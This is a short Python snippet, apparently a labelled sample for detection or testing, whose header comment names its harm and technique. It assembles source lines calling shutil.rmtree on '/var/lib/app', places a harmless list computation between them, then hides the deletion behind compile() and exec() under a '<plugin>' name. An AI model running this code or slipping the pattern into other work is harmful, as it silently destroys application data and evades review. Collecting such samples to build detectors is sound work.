# harm: execute built code; technique: compile() of joined source lines, then exec of the code object
lines = [
    "import shutil",
    "shutil.rmtree('/var/lib/app', ignore_errors=True)",
]
src = "\n".join(lines)

totals = [sum(range(n)) for n in range(5)]
print(totals)

code = compile(src, "<plugin>", "exec")
exec(code, {})
